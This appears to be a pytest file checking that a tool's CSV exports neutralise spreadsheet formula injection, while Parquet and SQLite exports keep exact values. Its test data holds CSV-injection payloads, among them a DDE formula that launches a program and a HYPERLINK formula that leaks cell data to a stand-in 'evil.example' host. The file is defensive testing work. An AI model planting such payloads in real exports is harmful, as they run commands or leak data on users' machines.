"""Exports are safe to open: CSV cells a spreadsheet would run as a formula are neutralised (OWASP), in the
CLI's ``--out x.csv`` and the app's downloads; Parquet and SQLite keep the exact values."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from flowlab.batch.runlog import RunLog
from flowlab.batch.runner import BatchOptions
from flowlab.batch.runs import GuestResult, RunMeta, RunStore
from flowlab.batch.samples import GuestSample
from flowlab.sandbox import SandboxServer

ROOT = Path(__file__).resolve().parents[1]

DDE = "=cmd|' /C calc'!A0"
ATTACKS = [
    DDE,
    "@SUM(1)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-1+1",
    "\tx",
    "\rx",
]
#: What survives reading a guest CSV (its cells are stripped of surrounding whitespace).
SAMPLE_ATTACKS = ATTACKS[:5]


def guests_csv(path: Path) -> Path:
    """A guest sample whose own columns carry formulas, a negative-number column and a formula header."""
    lines = ["browserId,note,delta,@evil"]
    for i, attack in enumerate(SAMPLE_ATTACKS):
        cell = '"' + attack.replace('"', '""') + '"'
        lines.append(f"csv-{i},{cell},-{i + 1},x")
    lines.append("=1+2,plain,-9,y")  # the guest's identity itself is text from the file
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def read_cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def assert_neutralised(rows: list[dict[str, str]], raw: bytes) -> None:
    notes = [r["note"] for r in rows]
    assert notes == ["'" + a for a in SAMPLE_ATTACKS] + ["plain"]
    assert rows[-1]["guest"] == "'=1+2"
    assert [r["delta"] for r in rows] == [str(-i) for i in range(1, len(SAMPLE_ATTACKS) + 1)] + [
        "-9"
    ]  # numbers stay
    assert "'@evil" in rows[0] and "@evil" not in rows[0]  # a header is a cell too
    assert b"\"'=cmd|' /C calc'!A0\"" in raw  # kept quoted, as OWASP recommends
    for line in raw.decode("utf-8").splitlines()[1:]:
        cells = next(csv.reader([line]))
        assert not any(c.startswith(("=", "+", "@")) for c in cells), line


def flowlab(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "flowlab", *args], capture_output=True, text=True, timeout=120, cwd=ROOT
    )


def test_the_cli_csv_export_neutralises_formulas_and_parquet_and_sqlite_keep_them(
    tmp_path: Path, sandbox: SandboxServer
) -> None:
    guests = guests_csv(tmp_path / "guests.csv")
    base = ["batch", "--base-url", sandbox.url, "--client-key", sandbox.client_key, "--friendly-id",
            "checkout_ab_test", "--guests", str(guests), "-q"]  # fmt: skip
    for out in ("run.csv", "run.parquet"):
        result = flowlab(*base, "--out", str(tmp_path / out))
        assert result.returncode in (0, 1) and (tmp_path / out).is_file(), (
            result.stderr
        )  # 1: some calls failed

    raw = (tmp_path / "run.csv").read_bytes()
    assert_neutralised(read_cells(raw), raw)

    exact = pd.read_parquet(tmp_path / "run.parquet")
    assert list(exact["note"]) == [*SAMPLE_ATTACKS, "plain"] and exact["guest"].iloc[-1] == "=1+2"
    assert list(exact["delta"]) == [-i for i in range(1, len(SAMPLE_ATTACKS) + 1)] + [-9]
    with sqlite3.connect(tmp_path / "run.csv.sqlite") as conn:
        stored = [
            json.loads(extra)["note"] for (extra,) in conn.execute("SELECT extra FROM results ORDER BY row")
        ]
    assert stored == [*SAMPLE_ATTACKS, "plain"]


def test_the_app_download_neutralises_formulas() -> None:
    from ui.runs import export_bytes

    meta = RunMeta("f", "http://127.0.0.1:9", "fp", len(ATTACKS), extra_columns=("note", "delta", "@evil"))
    log = RunLog()
    options = BatchOptions(base_url="http://127.0.0.1:9", client_key="k", friendly_id="f")
    run_id = log.prepare(GuestSample([], [], (), "test"), options)
    path = log.store_path(run_id)
    with RunStore.create(path, meta) as store:
        store.write(
            GuestResult(
                row=i,
                guest=f"g-{i}",
                identity="browserId",
                status_code=200,
                ok=True,
                body=attack,  # a template may print anything, a formula included
                error=attack,
                variant=attack,
                extra={"note": attack, "delta": -(i + 1), "@evil": "x"},
            )
            for i, attack in enumerate(ATTACKS)
        )
    raw = export_bytes(path, ".csv")
    rows = read_cells(raw)
    for column in ("note", "body", "error", "variant"):
        assert [r[column] for r in rows] == ["'" + a for a in ATTACKS], column
    assert [r["delta"] for r in rows] == [str(-i) for i in range(1, len(ATTACKS) + 1)]
    exact = pd.read_parquet(io.BytesIO(export_bytes(path, ".parquet")))
    assert list(exact["body"]) == ATTACKS and list(exact["note"]) == ATTACKS


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (DDE, "'" + DDE),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),  # a number written as text runs nothing
        ("+1.5e3", "+1.5e3"),
        ("-1+1", "'-1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_cell(cell: str, expected: str) -> None:
    from flowlab.csvsafe import safe_cell

    assert safe_cell(cell) == expected


def test_csv_bytes_for_app_tables_keeps_numbers_and_quotes_text() -> None:
    from flowlab.csvsafe import csv_bytes

    frame = pd.DataFrame({"variant": [DDE, "B"], "lift": [-0.25, 0.5], "n": [-3, 4]})
    raw = csv_bytes(frame)
    assert raw.decode().splitlines() == [
        '"variant","lift","n"',
        "\"'=cmd|' /C calc'!A0\",-0.25,-3",
        '"B",0.5,4',
    ]
    assert frame["variant"].iloc[0] == DDE  # the caller's frame is not changed


def test_the_app_tables_offer_no_raw_csv_download() -> None:
    """st.dataframe's own CSV download writes cells verbatim (no neutralising is possible there), so the app
    turns it off; the run's CSV export on the Batch run page is the safe way out."""
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
